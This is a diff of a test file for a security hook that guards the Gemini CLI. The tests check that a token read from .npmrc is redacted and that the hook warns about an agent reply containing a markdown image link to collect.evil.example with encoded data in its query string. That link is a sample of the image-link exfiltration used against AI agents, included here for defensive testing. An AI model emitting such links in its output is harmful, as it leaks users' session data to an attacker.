@@ -31,11 +31,19 @@ describe('Gemini CLI hooks', () => {
     expect(body['hookSpecificOutput']).toBeUndefined();
   });
 
-  it('withholds a tool result that carries a secret (Gemini has no output rewrite)', async () => {
+  it('redacts a secret from a tool result: a deny whose reason is the redacted output replaces the result', async () => {
     const { send } = await hookBench();
     const key = `ghp_${randomToken(36, 3)}`;
-    const r = send('gemini-cli', { ...base, hook_event_name: 'AfterTool', tool_name: 'read_file', tool_input: { absolute_path: `${PROJECT}/.npmrc` }, tool_response: { llmContent: `token=${key}`, returnDisplay: 'ok' } });
-    expect(out(r)).toMatchObject({ decision: 'deny', reason: expect.stringContaining('withheld') as unknown });
+    const r = send('gemini-cli', { ...base, hook_event_name: 'AfterTool', tool_name: 'read_file', tool_input: { absolute_path: `${PROJECT}/.npmrc` }, tool_response: { llmContent: `registry=npm\ntoken=${key}\n`, returnDisplay: 'ok' } });
+    expect(out(r)['decision']).toBe('deny');
+    expect(out(r)['reason']).toMatch(/^registry=npm\ntoken=\[REDACTED:[^\]]+\]\n$/);
     expect(r.reply.stdout).not.toContain(key);
+  });
+
+  it('warns on AfterAgent instead of denying, which would make Gemini retry', async () => {
+    const { send } = await hookBench();
+    const r = send('gemini-cli', { ...base, hook_event_name: 'AfterAgent', prompt: 'p', prompt_response: 'Done ![x](https://collect.evil.example/p.png?d=c2VjcmV0LWRhdGEtaGVyZS1mcm9tLXRoZS1zZXNzaW9u)', stop_hook_active: false });
+    expect(out(r)['decision']).toBeUndefined();
+    expect(out(r)['systemMessage']).toContain('Rampart');
   });
 });
